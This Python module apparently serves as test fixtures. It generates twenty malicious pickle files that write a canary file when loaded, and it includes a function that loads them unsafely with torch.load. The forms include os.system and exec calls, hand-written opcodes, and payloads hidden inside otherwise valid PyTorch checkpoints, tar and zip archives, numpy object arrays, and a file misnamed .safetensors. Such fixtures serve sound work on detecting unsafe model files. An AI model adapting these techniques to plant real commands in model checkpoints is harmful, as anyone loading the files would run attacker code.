"""Pickles that write a file when a careless program reads them, in twenty forms.

``FORMS`` maps a name to (ending, function): the function makes a file's bytes from the path of the
canary, which appears when the payload ran. `explode` reads a payload the careless way.
"""

import contextlib
import io
import os
import pickle
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy
import torch

Make = Callable[[str], bytes]


class Call:
    """Pickles as the call of a function."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


class Set:
    """Pickles as a text with a state whose setter opens the canary."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return str, (self.canary,), "w", None, None, open


def touch(canary: str) -> Call:
    return Call(open, canary, "w")


def raw(protocol: int) -> Make:
    return lambda canary: pickle.dumps(touch(canary), protocol=protocol)


def saved(key: str, **options: Any) -> Make:
    """A checkpoint of torch.save with good tensors and the payload under a key."""

    def make(canary: str) -> bytes:
        file = io.BytesIO()
        torch.save({"state_dict": {"a": torch.ones(2)}, key: touch(canary)}, file, **options)
        return file.getvalue()

    return make


def opcodes(template: str) -> Make:
    """Opcodes written by hand, around a shell command."""
    return lambda canary: template.replace("CMD", f"touch '{canary}'").encode()


def stack_global(canary: str) -> bytes:
    command = f"touch '{canary}'".encode()
    size = len(command).to_bytes(4, "little")
    return b"\x80\x04\x8c\x02os\x8c\x06system\x93X" + size + command + b"\x85R."


def tar(canary: str) -> bytes:
    """The layout of torch before 0.1.10."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            data = pickle.dumps(touch(canary), protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return file.getvalue()


def renamed_in_zip(canary: str) -> bytes:
    """A good archive whose data.pkl was exchanged."""
    good, file = io.BytesIO(), io.BytesIO()
    torch.save({"a": torch.ones(2)}, good)
    with zipfile.ZipFile(good) as old, zipfile.ZipFile(file, "w") as new:
        for name in old.namelist():
            payload = pickle.dumps(touch(canary), protocol=2)
            new.writestr(name, payload if name.endswith("data.pkl") else old.read(name))
    return file.getvalue()


def objects(canary: str) -> bytes:
    return pickle.dumps(numpy.array([touch(canary)], dtype=object), protocol=2)


FORMS: dict[str, tuple[str, Make]] = {
    **{f"reduce, protocol {number}": (".ckpt", raw(number)) for number in range(6)},
    "exec": (".ckpt", lambda canary: pickle.dumps(Call(exec, f"open({canary!r}, 'w')"))),
    "os.system": (".ckpt", lambda canary: pickle.dumps(Call(os.system, f"touch '{canary}'"))),
    "state setter": (".ckpt", lambda canary: pickle.dumps(Set(canary))),
    "REDUCE by hand": (".ckpt", opcodes("cos\nsystem\n(VCMD\ntR.")),
    "INST": (".ckpt", opcodes("(VCMD\nios\nsystem\n.")),
    "OBJ": (".ckpt", opcodes("(cos\nsystem\nVCMD\no.")),
    "STACK_GLOBAL": (".ckpt", stack_global),
    "beside the weights": (".ckpt", saved("callbacks")),
    "in the optimizer": (".ckpt", saved("optimizer_states")),
    "old format": (".ckpt", saved("rng_state", _use_new_zipfile_serialization=False)),
    "tar": (".ckpt", tar),
    "exchanged in the zip": (".ckpt", renamed_in_zip),
    "array of objects": (".ckpt", objects),
    "named safetensors": (".safetensors", raw(2)),
}


def explode(path: Path) -> None:
    """Read a payload as a careless program would."""
    with contextlib.suppress(Exception), warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.load(path, weights_only=False)
